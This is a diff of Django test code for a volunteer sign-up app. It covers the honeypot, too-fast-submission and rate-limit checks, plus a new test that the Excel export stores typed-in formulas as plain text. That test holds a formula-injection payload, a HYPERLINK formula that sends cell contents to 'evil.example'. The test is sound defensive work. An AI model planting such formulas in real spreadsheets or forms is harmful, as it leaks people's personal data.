@@ -1,19 +1,19 @@
 """The screens through the HTTP client: sign-up defences, refusals, assignment checks, the volunteer's page."""
 import io
-import time
 from datetime import timedelta
 
 import pytest
-from django.core import mail, signing
+from django.core import mail
 from django.urls import reverse
 from django.utils import timezone
 
 from brobyg.audit.models import AuditEntry
+from brobyg.core.models import PublicFormCount
+from brobyg.core.publicforms import stamp
 from brobyg.partnerships.models import Role
 from brobyg.volunteers import services
-from brobyg.volunteers.forms import SIGNUP_SALT
 from brobyg.volunteers.models import (
-    Ask, OnboardingItem, OnboardingRecord, SignupThrottle, Status, SupportNote, Task, TaskAssignment, VisitLog,
+    Ask, OnboardingItem, OnboardingRecord, Status, SupportNote, Task, TaskAssignment, VisitLog,
     VolunteerProfile,
 )
 
@@ -21,7 +21,7 @@ pytestmark = pytest.mark.django_db
 
 
 def _signup_data(**kw):
-    started = signing.dumps(time.time() - 30, salt=SIGNUP_SALT)
+    started = stamp("signup", seconds_ago=30)
     data = {"first_name": "Maja", "last_name": "Lind", "email": "maja@example.org", "phone": "20202020",
             "postcode": "8000", "travel_radius_km": "5", "wants_companion": "on", "interests": "gåture",
             "languages": "dansk", "commitment": "small", "channel": "saw_it", "slots": ["1-afternoon", "3-evening"],
@@ -63,15 +63,16 @@ def test_honeypot_and_too_fast_and_rate_limit(client, partnership_a):
     url = reverse("volunteers:signup_form", args=[partnership_a.pk])
     assert client.post(url, _signup_data(website="http://spam")).status_code == 302
     assert not VolunteerProfile.objects.exists()
-    fast = signing.dumps(time.time(), salt=SIGNUP_SALT)
-    response = client.post(url, _signup_data(started=fast))
+    response = client.post(url, _signup_data(started=stamp("signup")))
     assert response.status_code == 200 and not VolunteerProfile.objects.exists()
+    assert "hurtigt" in response.content.decode() and 'value="Maja"' in response.content.decode()
     forged = client.post(url, _signup_data(started="123"))
     assert forged.status_code == 200 and not VolunteerProfile.objects.exists()
-    for i in range(3):
-        client.post(url, _signup_data(email=f"x{i}@example.org"))
-    assert client.post(url, _signup_data(email="y@example.org")).status_code == 429
-    assert SignupThrottle.objects.get().count >= 6
+    for i in range(5):
+        assert client.post(url, _signup_data(email=f"x{i}@example.org")).status_code == 302
+    response = client.post(url, _signup_data(email="y@example.org"))
+    assert response.status_code == 429 and 'value="y@example.org"' in response.content.decode()
+    assert VolunteerProfile.objects.count() == 5 and PublicFormCount.objects.get(scope="signup").count == 6
 
 
 def test_other_partnership_gets_404_wrong_role_403(client_for, make_volunteer, make_task, facilitator_b, make_user,
@@ -105,6 +106,23 @@ def test_list_filters_and_excel_export(client_for, facilitator_a, make_volunteer
     rows = list(wb.active.values)
     assert len(rows) == 2 and rows[1][0] == "Bent"
     assert AuditEntry.objects.filter(action="volunteer.export").exists()
+
+
+def test_a_formula_typed_into_the_signup_reaches_the_export_as_text(client, client_for, facilitator_a,
+                                                                   partnership_a):
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://evil.example/?"&C2&D2,"Klik")'
+    url = reverse("volunteers:signup_form", args=[partnership_a.pk])
+    response = client.post(url, _signup_data(first_name=formula, last_name="@SUM(1+1)", phone="+4520202020"))
+    assert response.status_code == 302
+    export = client_for(facilitator_a).get(reverse("volunteers:export"))
+    sheet = load_workbook(io.BytesIO(export.content)).active
+    first, last, phone = sheet["A2"], sheet["B2"], sheet["D2"]
+    assert first.data_type == "s" and first.value == formula and first.quotePrefix
+    assert last.data_type == "s" and last.value == "@SUM(1+1)" and last.quotePrefix
+    assert phone.value == "+4520202020" and phone.data_type == "s"
+    assert sheet["A1"].data_type == "s" and not sheet["A1"].quotePrefix  # ordinary text is left alone
 
 
 def test_onboard_then_assign_refusal_explains_missing_child_record(client_for, facilitator_a, make_volunteer,
